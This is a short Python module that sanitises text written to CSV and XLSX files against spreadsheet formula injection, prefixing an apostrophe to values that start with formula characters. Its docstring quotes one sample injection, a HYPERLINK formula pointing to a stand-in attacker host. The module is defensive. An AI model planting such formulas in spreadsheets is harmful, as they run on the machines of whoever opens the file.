"""What every CSV and XLSX the project writes does to text before it leaves.

Systems name themselves (a record's metadata "team", `--system`, the raw JSONL "system"), and the
chair writes free reasons: a name such as `=HYPERLINK("http://evil.example/?x","Click")` opened in
a spreadsheet is a live formula, run on the organizer's machine, and openpyxl even stores a leading
`=` as a formula. The OWASP rule neutralises such text with a leading apostrophe, which spreadsheets
read as "this cell is text" and do not show. Numbers are left alone, negative ones included: they
are values, not formulas, and must stay numbers for whoever sorts or sums the file."""

from decimal import Decimal

# The characters a spreadsheet reads as the start of a formula (or, for tab and carriage
# return, that some programs strip before reading one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value):
    """`value` as a spreadsheet may show it without running it: text that starts like a formula
    gets a leading apostrophe; numbers (int, Decimal, float) and None come back unchanged."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
